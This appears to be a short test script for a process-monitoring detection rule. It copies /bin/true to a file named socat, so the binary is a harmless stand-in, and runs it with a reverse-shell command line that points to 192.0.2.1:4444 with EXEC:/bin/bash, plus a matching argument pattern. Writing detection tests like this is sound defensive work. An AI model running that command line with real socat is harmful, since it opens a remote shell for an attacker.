# SPDX-License-Identifier: Apache-2.0
# technique: A relay of the kind of socat gets an address EXEC: (a stand-in named socat)
# alert: Relay with a program
# field: proc.args=*EXEC:*
cp /bin/true socat
./socat TCP:192.0.2.1:4444 EXEC:/bin/bash,pty,stderr
